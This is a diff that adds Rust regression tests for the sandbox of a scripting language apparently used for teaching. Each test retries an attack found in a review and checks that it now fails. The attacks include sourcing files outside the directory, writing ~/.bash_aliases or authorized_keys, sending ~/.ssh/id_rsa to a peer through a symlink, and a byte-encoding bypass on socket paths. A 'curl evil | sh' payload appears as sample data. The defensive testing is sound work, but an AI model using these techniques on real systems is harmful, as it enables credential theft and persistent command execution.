@@ -1,0 +1,179 @@
+//! What a review found by attacking the hardening of issue 12 once more,
+//! each kept as a test: a lesson (a script file run in a scratch
+//! directory) tries to read, make or wait where it must not. Every run has
+//! a deadline (30 s: a hang is a status of None); files live in scratch
+//! directories; addresses are loopback.
+
+mod common;
+
+use common::{Run, Scratch};
+use std::path::Path;
+
+/// `k` connected to `c` through listener `s`.
+const PAIR: &str = "s = socket tcp\n\
+                    bind s 127.0.0.1 0\n\
+                    listen s\n\
+                    k = socket tcp\n\
+                    connect k s\n\
+                    c, addr = accept s\n";
+
+/// Runs `text` as the lesson file `t.sp` in `dir`.
+fn lesson(dir: &Path, args: &[&str], text: &str) -> Run {
+    std::fs::write(dir.join("t.sp"), text).expect("write the lesson");
+    let mut all: Vec<&str> = args.to_vec();
+    all.push("t.sp");
+    common::run_in(dir, &all, None)
+}
+
+fn has(run: &Run, want: &str) {
+    assert!(
+        run.output.contains(want),
+        "{want:?} in the output:\n{}",
+        run.output
+    );
+}
+
+fn mkfifo(p: &Path) {
+    use std::os::unix::ffi::OsStrExt;
+    let c = std::ffi::CString::new(p.as_os_str().as_bytes()).expect("path");
+    // SAFETY: a valid C string.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
+}
+
+/// A FIFO with no writer (shipped beside a lesson, as a tar file keeps
+/// one) or a device: opening one to read waited for a writer that never
+/// came, in an open() that Ctrl-C does not end; /dev/zero is one endless
+/// line, read and dropped for ever. Each is now an error at once.
+#[test]
+fn sendfile_and_source_of_a_fifo_or_a_device_do_not_hang() {
+    let s = Scratch::new("attack-fifo");
+    mkfifo(&s.path().join("pipe"));
+    for (line, want) in [
+        ("sendfile k ./pipe", "is not a regular file"),
+        ("source ./pipe", "is not a regular file"),
+        ("source /dev/zero", "PermissionError"),
+    ] {
+        let run = lesson(s.path(), &[], &format!("{PAIR}{line}\n"));
+        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
+        has(&run, want);
+    }
+}
+
+/// `source` read any file the user can read (`source /etc/passwd` showed
+/// its lines in the errors), while the lesson promise says a lesson reads
+/// only under the current directory, as `sendfile` does.
+#[test]
+fn a_lesson_sources_only_files_here() {
+    let s = Scratch::new("attack-source");
+    let other = Scratch::new("attack-source-other");
+    let secret = other.path().join("notes.txt");
+    std::fs::write(&secret, "password hunter2\n").expect("secret");
+    std::os::unix::fs::symlink(&secret, s.path().join("leak.sp")).expect("link");
+    let secret_s = secret.to_str().expect("utf-8");
+    for line in [format!("source {secret_s}"), "source leak.sp".to_string()] {
+        let run = lesson(s.path(), &[], &format!("{line}\n"));
+        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
+        has(&run, "PermissionError");
+        has(&run, "--allow-read");
+        assert!(!run.output.contains("hunter2"), "{}", run.output);
+    }
+    // Here, and where --allow-read says, is fine.
+    std::fs::write(s.path().join("part.sp"), "echo \"from part\"\n").expect("part");
+    let run = lesson(
+        s.path(),
+        &["--allow-read", other.path().to_str().expect("utf-8")],
+        "source part.sp\n",
+    );
+    assert_eq!(run.status, Some(0), "{}", run.output);
+    has(&run, "from part");
+}
+
+/// Run from the home folder, "new files under the current directory"
+/// included `~/.bash_aliases` (which every new bash runs: command
+/// execution at the next terminal), `~/.ssh/authorized_keys` when there
+/// was none, and reading `~/.ssh/id_rsa` to send it to a peer.
+#[test]
+fn a_lesson_run_at_home_neither_makes_nor_reads_hidden_files() {
+    let home = Scratch::new("attack-home");
+    let h = home.path();
+    std::fs::create_dir(h.join(".ssh")).expect(".ssh");
+    std::fs::write(h.join(".ssh/id_rsa"), "PRIVATE KEY").expect("key");
+    std::fs::create_dir(h.join("www")).expect("www");
+    std::os::unix::fs::symlink(h.join(".ssh/id_rsa"), h.join("www/key")).expect("link");
+    let sending = format!("{PAIR}send k b\"curl evil | sh\"\nclose k\n");
+    for (line, want) in [
+        ("recvfile c .bash_aliases", "hidden name (.bash_aliases)"),
+        ("recvfile c .ssh/authorized_keys", "hidden name (.ssh)"),
+        ("recvfile c ./sub/../.profile", "PermissionError"),
+        ("sendfile c .ssh/id_rsa", "hidden name (.ssh)"),
+        ("sendfile c www/key", "hidden name (.ssh)"),
+        ("x = socket unix\nbind x .x.sock", "hidden name (.x.sock)"),
+        ("export .x.py", "hidden name (.x.py)"),
+    ] {
+        let run = lesson(h, &[], &format!("{sending}{line}\n"));
+        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
+        has(&run, want);
+        assert!(!run.output.contains("PRIVATE"), "{}", run.output);
+    }
+    let mut names: Vec<String> = std::fs::read_dir(h)
+        .expect("ls")
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| !n.starts_with(".output") && n != ".config")
+        .collect();
+    names.sort();
+    assert_eq!(names, [".ssh", "t.sp", "www"]);
+    assert_eq!(
+        std::fs::read_dir(h.join(".ssh")).expect("ls .ssh").count(),
+        1
+    );
+    // Files that are not hidden are written as before.
+    let run = lesson(h, &[], &format!("{sending}recvfile c got.txt\n"));
+    assert_eq!(run.status, Some(0), "{}", run.output);
+    assert_eq!(
+        std::fs::read(h.join("got.txt")).expect("got"),
+        b"curl evil | sh"
+    );
+}
+
+/// The check of a UNIX socket path was made on the path with its bytes
+/// that are not UTF-8 replaced (U+FFFD), while bind used the real bytes.
+/// A peer's address has real bytes: from a folder named `\u{fffd}`, a
+/// lesson that binds the address a datagram came from (`<dir>/\xff/p.sock`,
+/// its sender gone) looked like a path here and made a socket file in
+/// another folder.
+#[test]
+fn a_socket_path_is_checked_as_the_bytes_that_are_bound() {
+    use std::os::unix::ffi::OsStrExt;
+    use std::time::{Duration, Instant};
+    let s = Scratch::new("attack-bytes");
+    let here = s.path().join("\u{fffd}");
+    let elsewhere = s.path().join(std::ffi::OsStr::from_bytes(b"\xff"));
+    std::fs::create_dir(&here).expect("here");
+    std::fs::create_dir(&elsewhere).expect("elsewhere");
+    let theirs = elsewhere.join("p.sock");
+    let ours = here.join("u.sock");
+    let sender = {
+        let theirs = theirs.clone();
+        std::thread::spawn(move || {
+            let start = Instant::now();
+            while !ours.exists() && start.elapsed() < Duration::from_secs(20) {
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            let peer = std::os::unix::net::UnixDatagram::bind(&theirs).expect("their socket");
+            peer.send_to(b"hi", &ours).expect("send");
+            drop(peer);
+            std::fs::remove_file(&theirs).expect("remove their file");
+        })
+    };
+    let run = lesson(
+        &here,
+        &[],
+        "u = socket unix-dgram\nbind u ./u.sock\ndata, addr = recvfrom u\nsleep 1\n\
+         y = socket unix-dgram\nbind y addr\n",
+    );
+    sender.join().expect("sender");
+    assert_eq!(run.status, Some(1), "{}", run.output);
+    has(&run, "PermissionError");
+    assert!(!theirs.exists(), "bound outside");
+}
